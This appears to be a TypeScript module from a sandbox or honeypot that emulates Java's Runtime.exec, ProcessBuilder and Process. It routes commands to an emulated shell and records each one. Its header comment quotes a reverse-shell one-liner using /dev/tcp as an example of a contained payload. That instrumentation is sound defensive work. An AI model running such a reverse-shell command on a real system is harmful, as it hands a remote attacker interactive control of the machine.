/**
 * Runtime.exec and ProcessBuilder.start on the dummy: the program runs in the host's emulated shell
 * (the one command injections reach), so `bash -c 'bash -i >& /dev/tcp/H/P 0>&1'` opens its
 * connection through the same containment. Runtime.exec(String) splits on white space as
 * java.lang.Runtime does (no shell quoting). A shell started with nothing to run (`/bin/sh`) stays
 * alive and runs each line written to its stdin: what a reverse shell's operator types.
 */
import { argumentDescriptors } from '../descriptors.ts';
import { isArray, isObject, type JavaObject, type JavaValue } from '../java-values.ts';
import type { JvmRuntime } from '../jvm-runtime.ts';
import { booleanValue, encodeText, optionalString, receiverObject, stateOf, stringArgument, stringArray } from './native-helpers.ts';
import { BufferSource, StreamIn, StreamOut, type ByteSink } from './java-io.ts';
import type { NativeCall, NativeLibrary } from './native-library.ts';

const SHELLS = new Set(['sh', 'bash', 'dash', 'ash', 'zsh', 'ksh', 'mksh', 'cmd', 'powershell', 'pwsh']);
/** lines of input one interactive shell runs (each is bounded by the shell's own limits) */
const MAX_SHELL_LINES = 256;
const latin1 = new TextDecoder('latin1');

class ProcessState {
  readonly stdout = new BufferSource(new Uint8Array(0), true);
  readonly stderr = new BufferSource(new Uint8Array(0));
  running = false;
  status = 0;
  private pendingInput = '';
  private linesRun = 0;

  constructor(
    private readonly jvm: JvmRuntime,
    readonly argv: string[],
    readonly commandLine: string,
    private readonly origin: string,
  ) {}

  start(): void {
    const output = this.jvm.context.runCommand(this.commandLine, this.origin);
    this.stdout.append(encodeText(output));
    if (interactiveShell(this.argv)) this.running = true;
    else this.stdout.open = false;
  }

  /** what the payload writes to the process: lines for an interactive shell, ignored otherwise */
  readonly stdin: ByteSink = {
    write: (bytes) => {
      if (this.running && this.pendingInput.length < 1 << 20) this.pendingInput += latin1.decode(bytes);
    },
    flush: () => this.runCompleteLines(),
    close: () => {
      this.runCompleteLines();
      if (this.pendingInput.trim() !== '') this.runLine(this.pendingInput);
      this.pendingInput = '';
      this.exit(0);
    },
  };

  exit(status: number): void {
    if (!this.running) return;
    this.running = false;
    this.status = status;
    this.stdout.open = false;
  }

  private runCompleteLines(): void {
    let newline = this.pendingInput.indexOf('\n');
    while (this.running && newline >= 0) {
      const line = this.pendingInput.slice(0, newline).replace(/\r$/, '');
      this.pendingInput = this.pendingInput.slice(newline + 1);
      if (line.trim() !== '') this.runLine(line);
      newline = this.pendingInput.indexOf('\n');
    }
  }

  private runLine(line: string): void {
    if (/^\s*exit\b/.test(line)) {
      this.exit(Number(/^\s*exit\s+(\d+)/.exec(line)?.[1] ?? 0));
      return;
    }
    if (this.linesRun >= MAX_SHELL_LINES) {
      this.jvm.context.anomaly?.('jvm.shell_input_limit');
      this.exit(0);
      return;
    }
    this.linesRun++;
    this.jvm.record('process', 'java.lang.Process.stdin', `${this.argv[0]} reads from its stdin and runs: ${line}`, { command: line, program: this.argv[0] ?? '' });
    this.stdout.append(encodeText(this.jvm.context.runCommand(line, this.origin)));
  }
}

/** a shell with nothing to run but its stdin: `/bin/sh`, `bash -i`, `cmd.exe` */
function interactiveShell(argv: string[]): boolean {
  const program = (argv[0] ?? '').split(/[\\/]/).pop()!.toLowerCase().replace(/\.exe$/, '');
  if (!SHELLS.has(program)) return false;
  return argv.slice(1).every((argument) => /^-[a-bd-z]*$/i.test(argument) && !/^-(command|encodedcommand|e|ec|c|file|f)$/i.test(argument));
}

/** the command line a shell parses back into exactly this argv */
export function quoteArguments(argv: string[], os: 'linux' | 'windows'): string {
  if (os === 'windows') return argv.map((argument) => (/^[^\s"]+$/.test(argument) ? argument : `"${argument.replace(/"/g, '\\"')}"`)).join(' ');
  return argv.map((argument) => (/^[A-Za-z0-9_\-.,:/=@%+]+$/.test(argument) ? argument : `'${argument.replace(/'/g, `'\\''`)}'`)).join(' ');
}

/** Starts a program for `api` (Runtime.exec, ProcessBuilder.start) and returns its Process object. */
function startProcess(jvm: JvmRuntime, argv: string[], api: string): JavaObject {
  if (argv.length === 0 || argv[0] === '') jvm.throwNew('java/lang/IndexOutOfBoundsException', 'empty command');
  const caller = jvm.callerLabel();
  const commandLine = quoteArguments(argv, jvm.context.os);
  jvm.record('process', api, `${caller} runs ${argv.join(' ')}`, { argv, commandLine, caller });
  const state = new ProcessState(jvm, argv, commandLine, `java:${caller}`);
  state.start();
  return jvm.newObject('java/lang/Process', state);
}

/** java.util.StringTokenizer's split, which Runtime.exec(String) uses */
function tokenize(command: string): string[] {
  return command.split(/[ \t\n\r\f]+/).filter((token) => token !== '');
}

function listValues(value: JavaValue): string[] | null {
  if (isArray(value)) return value.values.map((element) => optionalString(element) ?? 'null');
  if (isObject(value) && Array.isArray(value.native)) return (value.native as JavaValue[]).map((element) => optionalString(element) ?? 'null');
  return null;
}

class ProcessBuilderState {
  redirectErrorStream = false;
  constructor(public command: string[]) {}
}

export function defineJavaProcess(library: NativeLibrary): void {
  library.define('java/lang/Runtime', 'java/lang/Object', [], {
    getRuntime: (call) => call.jvm.newObject('java/lang/Runtime'),
    exec: (call) => {
      const type = argumentDescriptors(call.descriptor)[0];
      const argv = type === '[Ljava/lang/String;' ? stringArray(call.jvm, call.args[0]) : tokenize(stringArgument(call.jvm, call.args[0]));
      return startProcess(call.jvm, argv, 'java.lang.Runtime.exec');
    },
    availableProcessors: () => 2,
    totalMemory: () => 268_435_456n,
    maxMemory: () => 1_073_741_824n,
    freeMemory: () => 134_217_728n,
    gc: () => undefined,
    addShutdownHook: (call) => {
      call.jvm.record('thread', 'java.lang.Runtime.addShutdownHook', `${call.jvm.callerLabel()} registers a shutdown hook (runs when the JVM exits)`, {});
    },
  });
  library.define('java/lang/ProcessBuilder', 'java/lang/Object', [], {
    '<init>': (call) => {
      receiverObject(call).native = new ProcessBuilderState(listValues(call.args[0]) ?? []);
    },
    command: (call) => {
      const state = stateOf(call, ProcessBuilderState);
      if (call.args.length === 0) return call.jvm.newObject('java/util/ArrayList', [...state.command]);
      state.command = listValues(call.args[0]) ?? state.command;
      return call.receiver;
    },
    redirectErrorStream: (call) => {
      const state = stateOf(call, ProcessBuilderState);
      if (call.args.length === 0) return booleanValue(state.redirectErrorStream);
      state.redirectErrorStream = call.args[0] === 1;
      return call.receiver;
    },
    directory: (call) => (call.args.length === 0 ? null : call.receiver),
    inheritIO: (call) => call.receiver,
    redirectOutput: (call) => call.receiver,
    redirectInput: (call) => call.receiver,
    redirectError: (call) => call.receiver,
    environment: (call) => call.jvm.newObject('java/util/HashMap', new Map(call.jvm.context.environment.environmentVariables)),
    start: (call) => startProcess(call.jvm, stateOf(call, ProcessBuilderState).command, 'java.lang.ProcessBuilder.start'),
  });
  const process = (call: NativeCall): ProcessState => stateOf(call, ProcessState);
  library.define('java/lang/Process', 'java/lang/Object', [], {
    getInputStream: (call) => call.jvm.newObject('java/io/InputStream', new StreamIn(process(call).stdout)),
    getErrorStream: (call) => call.jvm.newObject('java/io/InputStream', new StreamIn(process(call).stderr)),
    getOutputStream: (call) => call.jvm.newObject('java/io/OutputStream', new StreamOut(process(call).stdin)),
    waitFor: (call) => {
      // a shell still waiting for input gets none: it reads end of file and exits
      const state = process(call);
      state.stdin.close();
      return call.args.length === 0 ? state.status : 1;
    },
    exitValue: (call) => {
      const state = process(call);
      if (state.running) call.jvm.throwNew('java/lang/IllegalThreadStateException', "process hasn't exited");
      return state.status;
    },
    isAlive: (call) => booleanValue(process(call).running),
    destroy: (call) => process(call).exit(143),
    destroyForcibly: (call) => {
      process(call).exit(137);
      return call.receiver;
    },
    pid: () => 4242n,
  });
}
